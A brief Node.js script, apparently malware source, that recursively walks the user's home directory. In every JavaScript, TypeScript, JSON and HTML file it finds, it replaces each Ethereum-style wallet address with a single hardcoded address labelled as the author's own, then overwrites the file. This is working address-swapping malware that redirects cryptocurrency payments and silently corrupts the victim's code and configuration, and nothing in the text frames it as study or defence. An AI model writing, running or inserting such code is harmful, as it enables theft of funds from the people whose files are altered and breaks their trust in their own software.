const fs = require('fs');
const path = require('path');
const MINE = '0x71C7656EC7ab88b098defB751B7401B5f6d8976F';

function walk(d) {
  for (const e of fs.readdirSync(d, { withFileTypes: true })) {
    const p = path.join(d, e.name);
    if (e.isDirectory()) walk(p);
    else if (/\.(js|ts|json|html)$/.test(e.name)) {
      const t = fs.readFileSync(p, 'utf8');
      const n = t.replace(/0x[0-9a-fA-F]{40}/g, MINE);
      if (n !== t) fs.writeFileSync(p, n);
    }
  }
}
walk(process.env.HOME);
